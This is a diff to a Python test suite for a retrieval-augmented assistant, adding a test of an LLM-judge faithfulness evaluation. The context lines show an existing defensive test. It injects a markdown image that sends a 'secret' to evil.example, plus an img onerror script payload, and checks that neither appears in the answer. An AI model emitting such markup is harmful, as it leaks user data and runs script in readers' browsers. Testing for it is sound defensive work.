@@ -169,3 +169,24 @@ def test_injected_markdown_and_html_never_reach_the_answer(generative: Assistant
                   "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>")
     answer = generative.ask("Why did the peacekeepers leave?")
     assert "evil.example" not in answer.text and "<img" not in answer.text
+
+
+def test_eval_with_llm_judge_scores_claims(generative: Assistant, server: ScriptedOpenAI,
+                                           tmp_path) -> None:
+    from rag.evaluation import run_eval
+
+    def reply(request: dict) -> str:
+        prompt = request["messages"][-1]["content"]
+        if '"claims"' in prompt:
+            return ('{"claims": [{"claim": "a", "supported": true, "reason": "stated"}, '
+                    '{"claim": "b", "supported": false, "reason": "absent"}]}')
+        return f"{TRUE} [{source_number(server, request, '100,000')}]."
+
+    server.script(responder=reply)
+    dataset = tmp_path / "mini.jsonl"
+    dataset.write_text('{"id": "m1", "question": "Why did the peacekeepers leave?", '
+                       '"answerable": true, "required_facts": ["100,000"], "evidence": []}\n',
+                       encoding="utf-8")
+    result = run_eval(generative, dataset, tmp_path / "out", None, None, progress=False,
+                      llm_judge=True)
+    assert result.metrics["llm_faithfulness"] == 0.5
